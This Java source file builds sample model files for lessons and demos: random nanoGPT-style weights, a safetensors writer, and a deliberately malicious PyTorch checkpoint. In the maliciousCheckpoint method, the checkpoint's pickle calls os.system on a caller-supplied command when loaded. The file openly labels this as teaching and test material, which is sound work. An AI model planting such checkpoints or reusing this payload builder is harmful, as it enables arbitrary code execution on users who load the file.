package parallax.engine.formats;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import parallax.engine.numerics.DType;

/**
 * Small model files for lessons and demos: a nanoGPT-shaped state dict with random
 * weights, and a deliberately malicious PyTorch checkpoint whose pickle would call
 * os.system when loaded by plain {@code pickle}. Nothing here loads or runs a model.
 */
public final class SampleModels {

    private SampleModels() {}

    /** nanoGPT-style random weights (N(0, 0.02) matrices, LayerNorm gains 1) for {@code spec}, lm_head tied. */
    public static Map<String, GptOnnxExporter.Weight> randomGpt(GptOnnxExporter.GptSpec spec, long seed) {
        Random r = new Random(seed);
        Map<String, GptOnnxExporter.Weight> w = new LinkedHashMap<>();
        int h = spec.hidden();
        gauss(w, r, "transformer.wte.weight", spec.vocab(), h);
        gauss(w, r, "transformer.wpe.weight", spec.sequence(), h);
        for (int l = 0; l < spec.layers(); l++) {
            String p = "transformer.h." + l;
            ones(w, p + ".ln_1.weight", h);
            zeros(w, p + ".ln_1.bias", h);
            gauss(w, r, p + ".attn.c_attn.weight", 3 * h, h);
            zeros(w, p + ".attn.c_attn.bias", 3 * h);
            gauss(w, r, p + ".attn.c_proj.weight", h, h);
            zeros(w, p + ".attn.c_proj.bias", h);
            ones(w, p + ".ln_2.weight", h);
            zeros(w, p + ".ln_2.bias", h);
            gauss(w, r, p + ".mlp.c_fc.weight", 4 * h, h);
            zeros(w, p + ".mlp.c_fc.bias", 4 * h);
            gauss(w, r, p + ".mlp.c_proj.weight", h, 4 * h);
            zeros(w, p + ".mlp.c_proj.bias", h);
        }
        ones(w, "transformer.ln_f.weight", h);
        zeros(w, "transformer.ln_f.bias", h);
        return w;
    }

    private static void gauss(Map<String, GptOnnxExporter.Weight> w, Random r, String name, long... shape) {
        float[] d = new float[(int) DType.elements(shape)];
        for (int i = 0; i < d.length; i++) d[i] = (float) (0.02 * r.nextGaussian());
        w.put(name, new GptOnnxExporter.Weight(shape, d));
    }

    private static void ones(Map<String, GptOnnxExporter.Weight> w, String name, long n) {
        float[] d = new float[(int) n];
        java.util.Arrays.fill(d, 1f);
        w.put(name, new GptOnnxExporter.Weight(new long[] {n}, d));
    }

    private static void zeros(Map<String, GptOnnxExporter.Weight> w, String name, long n) {
        w.put(name, new GptOnnxExporter.Weight(new long[] {n}, new float[(int) n]));
    }

    /** Writes float32 weights as a safetensors file (streamed, temp file + rename). */
    public static Path writeSafetensors(Map<String, GptOnnxExporter.Weight> weights, Path file) {
        List<TensorSpec> specs = new ArrayList<>();
        weights.forEach((k, v) -> specs.add(new TensorSpec(k, DType.F32, v.shape())));
        try (TensorWriter wr = Safetensors.writer(file, Map.of("format", "pt"), specs)) {
            for (GptOnnxExporter.Weight v : weights.values()) {
                wr.beginTensor();
                ByteBuffer b = ByteBuffer.allocate(v.data().length * 4).order(ByteOrder.LITTLE_ENDIAN);
                b.asFloatBuffer().put(v.data());
                wr.write(b);
            }
            wr.commit();
        }
        return file;
    }

    /**
     * A torch.save-shaped zip whose data.pkl is the classic pickle exploit: GLOBAL os.system,
     * the argument {@code command}, REDUCE. {@code pickle.load} would run the command.
     */
    public static Path maliciousCheckpoint(Path file, String command) {
        ByteArrayOutputStream p = new ByteArrayOutputStream();
        p.write(0x80);
        p.write(2);                                                   // PROTO 2
        byte[] g = "cos\nsystem\n".getBytes(StandardCharsets.US_ASCII); // GLOBAL os.system
        p.write(g, 0, g.length);
        byte[] c = command.getBytes(StandardCharsets.UTF_8);
        p.write('X');                                                 // BINUNICODE command
        p.write(c.length & 0xff);
        p.write((c.length >> 8) & 0xff);
        p.write(0);
        p.write(0);
        p.write(c, 0, c.length);
        p.write(0x85);                                                // TUPLE1
        p.write('R');                                                 // REDUCE: os.system(command)
        p.write('.');                                                 // STOP
        try (ZipOutputStream z = new ZipOutputStream(Files.newOutputStream(file))) {
            byte[] pkl = p.toByteArray();
            ZipEntry e = new ZipEntry("archive/data.pkl");
            e.setMethod(ZipEntry.STORED);
            CRC32 crc = new CRC32();
            crc.update(pkl);
            e.setSize(pkl.length);
            e.setCompressedSize(pkl.length);
            e.setCrc(crc.getValue());
            z.putNextEntry(e);
            z.write(pkl);
            z.closeEntry();
        } catch (IOException ex) {
            throw new UncheckedIOException(ex);
        }
        return file;
    }
}
